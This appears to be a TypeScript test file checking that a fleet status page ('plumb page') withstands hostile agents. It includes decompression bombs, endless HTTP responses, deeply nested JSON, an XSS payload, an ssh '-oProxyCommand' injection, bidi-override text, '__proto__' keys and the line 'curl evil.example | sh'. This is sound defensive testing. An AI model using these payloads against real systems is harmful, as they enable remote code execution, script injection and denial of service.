// lane: netns
// Tests cli/fleet: what hostile agents answer harms neither `plumb page` nor who looks at it.
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { createServer, type Socket } from 'node:net'
import { join } from 'node:path'
import { brotliCompressSync, gzipSync } from 'node:zlib'
import type { Subprocess } from 'bun'
import { accessOf } from '../../../agent/cluster/access.ts'
import { Api } from '../../../agent/cluster/api.ts'
import { serveHealth } from '../../../agent/http/server.ts'
import type { Fleet } from '../../../cli/fleet/fleet.ts'
import { askByPortForward } from '../../../cli/fleet/port-forward.ts'
import { cluster, knownOf, type Member } from '../../support/fleet.ts'
import { until } from '../../support/harness.ts'
import { kubeServer } from '../../support/kube-server.ts'
import { patient } from '../../support/patience.ts'
import { browsing, rowsOf, text } from '../../support/status-page.ts'

const PLUMB = join(import.meta.dir, '../../../dist/plumb')
const [PORT, AGENT_PORT] = [10_273, 9469]
const URL = `http://127.0.0.1:${PORT}/`
const LATE = 60_000
const BIDI = '\u202e'
/** What an agent does with the connection of who asks. */
type Answer = (socket: Socket) => void

describe('plumb page and hostile agents', () => {
  const { visit } = browsing(URL)
  const ends: (() => void)[] = []
  afterEach(() => {
    for (const end of ends.splice(0)) end()
  })
  function hostile(address: string, answer: Answer): void {
    const sockets = new Set<Socket>()
    const server = createServer((socket) => {
      sockets.add(socket)
      socket.on('error', () => {})
      socket.once('data', () => answer(socket))
    }).listen(AGENT_PORT, address)
    ends.push(() => {
      for (const socket of sockets) socket.destroy()
      server.close()
    })
  }
  // Runs the program on these agents and an honest one, which is node-1, until all were asked.
  async function page(
    answers: Readonly<Record<string, Answer>>,
  ): Promise<{ page: Subprocess<'ignore', 'pipe', 'pipe'>; causes: Record<string, string> }> {
    const [{ ip, source }] = cluster(1) as [Member]
    const honest = await serveHealth({ address: ip, port: AGENT_PORT, socket: '/run/honest.sock' }, source)
    ends.push(() => honest.stop())
    const names = Object.keys(answers)
    const addressOf = (i: number) => `127.0.2.${i + 1}`
    for (const [i, name] of names.entries()) hostile(addressOf(i), answers[name] as Answer)
    const agents = [ip, ...names.map((_, i) => addressOf(i))].join(',')
    const one = Bun.spawn([PLUMB, 'page', '--agents', agents, '--port', `${PORT}`], {
      stdin: 'ignore',
      stdout: 'pipe',
      stderr: 'pipe',
    })
    ends.push(() => one.kill('SIGKILL'))
    const { nodes } = await until(async () => {
      const fleet = await fleetNow()
      const isComplete =
        fleet?.nodes.length === names.length + 1 && fleet.nodes.every(({ cause }) => cause !== 'not asked yet')
      return isComplete ? fleet : undefined
    }, LATE).then((fleet) => fleet as Fleet)
    assert.equal(nodes.find(({ name }) => name === 'node-1')?.state, 'ready')
    const causeAt = (i: number) => nodes.find(({ name }) => name === `${addressOf(i)}:${AGENT_PORT}`)?.cause ?? 'taken'
    return { page: one, causes: Object.fromEntries(names.map((name, i) => [name, causeAt(i)])) }
  }

  it('endless, packed, deep and broken answers are one reason each; memory stays small, and nothing is written to the terminal', async function () {
    this.timeout(120_000)
    const tooLong = 'its answer is longer than 1 MB'
    const noHttp = 'its answer is not HTTP: another program listens there'
    const noJson = 'its answer is no JSON: another program answers there'
    const late = 'no answer within 5 s'
    const pour = (socket: Socket, head: string, piece: Buffer) => {
      socket.write(head)
      const more = () => {
        while (socket.writable && socket.write(piece));
      }
      socket.on('drain', more)
      more()
    }
    const bomb = gzipSync(Buffer.alloc(500_000_000), { level: 1 })
    const wanted: Readonly<Record<string, readonly [Answer, string]>> = {
      'a body without an end': [(one) => pour(one, headOf(), Buffer.alloc(100_000, 32)), tooLong],
      'headers without an end': [
        (one) => pour(one, 'HTTP/1.1 200 OK\r\n', Buffer.from(`X: ${'y'.repeat(9000)}\r\n`)),
        noHttp,
      ],
      'a chunk without an end': [
        (one) => pour(one, headOf('Transfer-Encoding: chunked'), Buffer.alloc(9000, 48)),
        noHttp,
      ],
      'half an answer': [(one) => one.write(`${headOf('Content-Length: 1000')}{`), late],
      nothing: [() => {}, late],
      'a bomb of gzip': [sent(bomb, 'Content-Encoding: gzip'), tooLong],
      'a small bomb of gzip': [sent(gzipSync(Buffer.alloc(100_000_000)), 'Content-Encoding: gzip'), tooLong],
      'a bomb of brotli': [
        sent(brotliCompressSync(Buffer.alloc(10_000_000)), 'Content-Encoding: br'),
        'its answer has the encoding "br": want gzip or none',
      ],
      'broken gzip': [sent('xx', 'Content-Encoding: gzip'), 'its answer cannot be decompressed'],
      'a deep array': [sent('['.repeat(900_000)), noJson],
      'a deep object': [sent('{"a":'.repeat(180_000)), noJson],
      NaN: [sent('NaN'), noJson],
      null: [sent('null'), 'its answer is no summary of plumb: it is null'],
      'another program': [(one) => one.end('SSH-2.0-OpenSSH\r\n'), noHttp],
    }
    const { page: one, causes } = await page(
      Object.fromEntries(Object.entries(wanted).map(([name, [answer]]) => [name, answer])),
    )
    assert.deepEqual(causes, Object.fromEntries(Object.entries(wanted).map(([name, [, cause]]) => [name, cause])))
    const [, most] = /^VmHWM:\s+(\d+) kB$/m.exec(readFileSync(`/proc/${one.pid}/status`, 'utf8')) ?? []
    assert.ok(Number(most) < 300_000, `${most} kB`)
    one.kill('SIGTERM')
    assert.equal(await new Response(one.stderr).text(), '')
    assert.equal(await one.exited, 0)
  })

  it('values and names that would break the page are refused or shown as text, in the page, too', async function () {
    this.timeout(120_000)
    const like = (name: string, change: object) => sent(JSON.stringify({ ...summaryOf(name), ...change }))
    const command = `ip link\ncurl evil.example | sh`
    const { causes } = await page({
      'a time after all dates': like('t', { worst: [{ name: 'p', state: 'silent', sent: 1, lost: 1, since: 9e15 }] }),
      'a number without an end': sent(JSON.stringify(summaryOf('n')).replace(/"at":\d+/, '"at":1e999')),
      markup: like('<img src=x onerror=alert(1)>', {}),
      'an option of ssh': like('-oProxyCommand=id', {}),
      'too many peers': like('w', { worst: Array.from({ length: 60 }, () => ({ name: 'p', state: 'silent' })) }),
      'keys of objects': sent(
        JSON.stringify(summaryOf('keys')).replace(
          '"zones":{',
          '"zones":{"__proto__":{"peers":1,"bad":1},"x":{"peers":1,"bad":1}',
        ),
      ),
      'the name of another': like('node-1', { cause: 'node-1 is broken', state: 'not ready' }),
      'words that turn': like('turn', {
        version: `${BIDI}1.0\u0007`,
        zone: `${BIDI}zone`,
        state: 'degraded',
        cause: `${BIDI}cause <b>`,
        findings: [
          { code: 'DR1', severity: 'error', text: `${BIDI}text <b>`, commands: [command, `ip ${BIDI}link`, 'ip link'] },
        ],
        worst: [
          { name: `${BIDI}peer <b>`, state: 'silent', sent: 9_007_199_254_740_991, lost: 1, ms: 1e6, since: 8.64e15 },
        ],
      }),
    })
    assert.deepEqual(causes, {
      'a time after all dates': 'its answer is no summary of plumb: worst.0.since is 9000000000000000',
      'a number without an end': 'its answer is no summary of plumb: at is Infinity',
      markup: 'its answer is no summary of plumb: node is "<img src=x onerror=alert(1)>"',
      'an option of ssh': 'its answer is no summary of plumb: node is "-oProxyCommand=id"',
      'too many peers': 'its answer is no summary of plumb: worst is 60',
      'keys of objects': 'taken',
      // It has its address as its name.
      'the name of another': 'node-1 is broken',
      'words that turn': 'taken',
    })
    for (const view of ['', '#/matrix', '#/matrix?sel=node-1>turn', '#/nodes', '#/pairs']) {
      const one = await visit(view)
      assert.equal(await one.locator('main b:has-text("text")').count(), 0)
      assert.ok(!(await text(one, 'body')).includes(BIDI), view)
      const commands = await one.locator('[data-command]').evaluateAll('(all) => all.map((one) => one.dataset.command)')
      assert.ok(!String(commands).includes('curl'), `${commands}`)
      if (view === '#/nodes') assert.match((await rowsOf(one, 'main')).flat().join(' '), /\\u202e1\.0\\u0007/)
    }
  })

  it('by port-forward, an answer in single bytes costs little, one that is cut or too long is named', async function () {
    this.timeout(60_000)
    const server = await kubeServer()
    server.forward = (pod, port) => ({ hostname: `127.0.3.${pod.slice(1)}`, port })
    const api = new Api(accessOf({ kubeconfig: server.kubeconfig }), 'test')
    const ask = (pod: string) =>
      askByPortForward(
        api,
        { namespace: 'x', pod, port: AGENT_PORT },
        '/summary?row',
        AbortSignal.timeout(patient(20_000)),
      )
    hostile('127.0.3.1', (socket) => {
      socket.setNoDelay(true)
      socket.write(Buffer.concat([Buffer.from(headOf('Content-Length: 1000000')), Buffer.alloc(980_000, 32)]))
      let left = 20_000
      const drip = () => {
        if (!socket.writable || left-- === 0) return
        socket.write(' ')
        setImmediate(drip)
      }
      setTimeout(drip, 100)
    })
    hostile('127.0.3.2', (socket) => socket.end(`${headOf('Content-Length: 10')}{}`))
    hostile('127.0.3.3', (socket) => socket.end(`${headOf('Content-Length: 1000001')}{}`))
    hostile('127.0.3.4', sent(gzipSync(Buffer.alloc(5_000_000)), 'Content-Encoding: gzip'))
    const before = process.cpuUsage()
    assert.equal((await ask('a1')).body.length, 1_000_000)
    const { user, system } = process.cpuUsage(before)
    // It was 7 s when the pieces were put together for each of them. Half a second of it is the test's own.
    assert.ok(user + system < 3_000_000, `${(user + system) / 1000} ms`)
    await assert.rejects(ask('a2'), /the answer was cut/)
    await assert.rejects(ask('a3'), /its answer is longer than 1 MB/)
    await assert.rejects(ask('a4'), /its answer is longer than 1 MB/)
  })
})

function summaryOf(name: string): object {
  const [one] = cluster(1) as [Member]
  return { ...knownOf(one, Date.now()).summary, node: name }
}

function headOf(...fields: readonly string[]): string {
  return ['HTTP/1.1 200 OK', 'Content-Type: application/json', ...fields, '', ''].join('\r\n')
}

function sent(body: string | Uint8Array, ...fields: readonly string[]): Answer {
  const bytes = Buffer.from(body as string)
  return (socket) => {
    socket.write(headOf(`Content-Length: ${bytes.length}`, ...fields))
    socket.end(bytes)
  }
}

async function fleetNow(): Promise<Fleet | undefined> {
  try {
    return (await (await fetch(`${URL}fleet`)).json()) as Fleet
  } catch {
    return undefined
  }
}
